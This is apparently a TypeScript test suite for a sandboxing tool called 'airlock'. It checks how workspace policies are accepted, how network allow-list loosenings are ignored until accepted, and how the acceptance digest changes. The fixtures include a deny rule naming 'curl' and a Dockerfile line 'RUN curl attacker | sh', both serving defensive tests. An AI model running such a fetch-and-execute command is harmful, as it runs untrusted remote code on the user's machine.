    writeFiles(dir, { 'broken.json': '{ "resources": { "memory": ' });
    assert.throws(() => loadMachineFloors({ AIRLOCK_MACHINE_POLICY: path.join(dir, 'broken.json') }), SourceFileError);
  });
});

describe('policyForWorkspace and acceptance', () => {
  const POLICY_V1 = '{\n  // our policy\n  "network": { "agent": { "allow": ["registry.npmjs.org"] } },\n  "commands": { "deny": ["curl"] }\n}\n';
  const POLICY_V1_REFORMATTED = '// reformatted, with comments\n{\n  "commands": {\n    "deny": [\n      "curl", // no curl\n    ],\n  },\n  "network": { "agent": { "allow": [ "registry.npmjs.org" ] } }\n}\n';
  const POLICY_V2 = '{\n  "network": { "agent": { "allow": ["registry.npmjs.org", "pypi.org"] } },\n  "commands": { "deny": ["curl"] }\n}\n';

  function setup(): { workspace: string; stateDir: string; load: (trusted?: boolean) => ReturnType<typeof policyForWorkspace> } {
    const workspace = makeTempDir('airlock-ws-');
    const stateDir = makeTempDir('airlock-state-');
    writeFiles(workspace, { [POLICY_FILE]: POLICY_V1 });
    return { workspace, stateDir, load: (trusted = true) => policyForWorkspace({ workspace, stateDir, trusted, env: {} }) };
  }

  test('no acceptance → the loosening is ignored, the tightening applies', () => {
    const { workspace, load } = setup();
    const state = load();
    assert.equal(state.accepted, false);
    assert.equal(state.acceptance, undefined);
    assert.equal(state.repo?.file, path.join(workspace, POLICY_FILE));
    assert.deepEqual(ignoredFields(state.effective), ['network.agent.allow=registry.npmjs.org']);
    assert.deepEqual(state.newLoosenings, state.effective.loosenings);
    assert.deepEqual(state.effective.policy.network.agent.allow, []);
    assert.deepEqual(state.effective.policy.commands.deny, ['curl']);
  });

  test('accept → accepted; a comment/whitespace/key-order edit keeps it; a new host asks again for exactly that host', () => {
    const { workspace, stateDir, load } = setup();
    const first = load();
    const acceptances = new PolicyAcceptances(stateDir);
    const record = acceptances.accept(workspace, first.repo!.digest, first.effective.loosenings);
    assert.equal(record.digest, first.repo!.digest);
    assert.deepEqual(acceptances.get(workspace)?.loosenings, first.effective.loosenings);

    const accepted = load();
    assert.equal(accepted.accepted, true);
    assert.deepEqual(accepted.effective.ignored, []);
    assert.deepEqual(accepted.newLoosenings, []);
    assert.deepEqual(accepted.effective.policy.network.agent.allow, ['registry.npmjs.org']);
    assert.deepEqual(sourcesOf(accepted.effective, 'network.agent.allow'), ['registry.npmjs.org@repo']);

    writeFiles(workspace, { [POLICY_FILE]: POLICY_V1_REFORMATTED });
    const reformatted = load();
    assert.equal(reformatted.repo!.digest, first.repo!.digest);
    assert.equal(reformatted.accepted, true);

    writeFiles(workspace, { [POLICY_FILE]: POLICY_V2 });
    const changed = load();
    assert.notEqual(changed.repo!.digest, first.repo!.digest);
    assert.equal(changed.accepted, false);
    assert.deepEqual(changed.newLoosenings.map((loosening) => `${loosening.field}=${loosening.value}`), ['network.agent.allow=pypi.org']);
    assert.deepEqual(ignoredFields(changed.effective), ['network.agent.allow=registry.npmjs.org', 'network.agent.allow=pypi.org']);
    assert.deepEqual(changed.effective.policy.network.agent.allow, []);
  });

  test('an untrusted workspace is never accepted, even with a matching acceptance', () => {
    const { workspace, stateDir, load } = setup();
    const first = load();
    new PolicyAcceptances(stateDir).accept(workspace, first.repo!.digest, first.effective.loosenings);
    assert.equal(load(true).accepted, true);
    const untrusted = load(false);
    assert.equal(untrusted.accepted, false);
    assert.equal(untrusted.trusted, false);
    assert.deepEqual(ignoredFields(untrusted.effective), ['network.agent.allow=registry.npmjs.org']);
  });

  test('revoking an acceptance makes the policy unaccepted again', () => {
    const { workspace, stateDir, load } = setup();
    const acceptances = new PolicyAcceptances(stateDir);
    acceptances.accept(workspace, load().repo!.digest, []);
    assert.equal(load().accepted, true);
    assert.equal(acceptances.revoke(workspace), true);
    assert.equal(acceptances.revoke(workspace), false);
    assert.equal(load().accepted, false);
  });

  test('an acceptance is per workspace', () => {
    const { workspace, stateDir, load } = setup();
    const other = makeTempDir('airlock-ws-');
    writeFiles(other, { [POLICY_FILE]: POLICY_V1 });
    new PolicyAcceptances(stateDir).accept(other, load().repo!.digest, []);
    assert.equal(load().accepted, false);
    assert.equal(new PolicyAcceptances(stateDir).get(workspace), undefined);
  });

  test('devcontainer.path through a symlinked folder that leaves the workspace is refused', () => {
    const workspace = makeTempDir('airlock-ws-');
    const outside = makeTempDir('airlock-outside-');
    writeFiles(outside, { 'devcontainer.json': '{ "image": "x:1", "containerEnv": { "HOST_VALUE": "from outside" } }' });
    fs.symlinkSync(outside, path.join(workspace, 'link'));
    writeFiles(workspace, { [POLICY_FILE]: '{ "devcontainer": { "path": "link/devcontainer.json" } }' });
    assert.throws(() => policyForWorkspace({ workspace, stateDir: makeTempDir('airlock-state-'), trusted: true, env: {} }), (error: unknown) => error instanceof SourceFileError && error.problems[0].field === 'devcontainer.path');
  });

  test('a workspace without a policy file has no repository layer', () => {
    const workspace = makeTempDir('airlock-ws-');
    const state = policyForWorkspace({ workspace, stateDir: makeTempDir('airlock-state-'), trusted: true, env: {} });
    assert.equal(state.repo, undefined);
    assert.equal(state.accepted, false);
    assert.deepEqual(state.newLoosenings, []);
  });

  test('an invalid policy file throws SourceFileError with its position', () => {
    const { workspace, load } = setup();
    writeFiles(workspace, { [POLICY_FILE]: '{\n  "resources": { "cpus": "many" }\n}\n' });
    assert.throws(load, (error: unknown) => error instanceof SourceFileError && error.problems[0].field === 'resources.cpus' && error.problems[0].line === 2);
  });

  test('machine floors from the context env and extraFloors bound an accepted policy', () => {
    const { workspace, stateDir } = setup();
    const floorDir = makeTempDir();
    writeFiles(floorDir, { 'floor.json': '{ "network": { "agent": { "allow": [] } } }' });
    const context = { workspace, stateDir, trusted: true, env: { AIRLOCK_MACHINE_POLICY: path.join(floorDir, 'floor.json') }, extraFloors: [machine({ commands: { default: 'ask' } }, 'vscode machine setting')] };
    const first = policyForWorkspace(context);
    new PolicyAcceptances(stateDir).accept(workspace, first.repo!.digest, first.effective.loosenings);
    const state = policyForWorkspace(context);
    assert.equal(state.accepted, true);
    assert.deepEqual(state.effective.policy.network.agent.allow, []);
    assert.equal(state.effective.policy.commands.default, 'ask');
    assert.ok(state.floors.some((floor) => floor.source === path.join(floorDir, 'floor.json')));
    assert.ok(fs.existsSync(path.join(floorDir, 'floor.json')));
  });
});

describe('the acceptance digest', () => {
  test('covers the Dockerfile a devcontainer builds: editing it asks again; a comment in .airlock.json does not', () => {
    const workspace = makeTempDir('airlock-digest-');
    writeFiles(workspace, {
      [POLICY_FILE]: '{ "devcontainer": { "path": ".devcontainer/devcontainer.json" } }',
      '.devcontainer/devcontainer.json': '{ "build": { "dockerfile": "Dockerfile" } }',
      '.devcontainer/Dockerfile': 'FROM airlock-test:bookworm\nRUN true\n',
    });
    const first = loadWorkspacePolicy(workspace)!.digest;
    fs.writeFileSync(path.join(workspace, POLICY_FILE), '// team policy\n{ "devcontainer": { "path": ".devcontainer/devcontainer.json" } }\n');
    assert.equal(loadWorkspacePolicy(workspace)!.digest, first);
    fs.writeFileSync(path.join(workspace, '.devcontainer/Dockerfile'), 'FROM airlock-test:bookworm\nRUN curl attacker | sh\n');
    assert.notEqual(loadWorkspacePolicy(workspace)!.digest, first);
  });
});
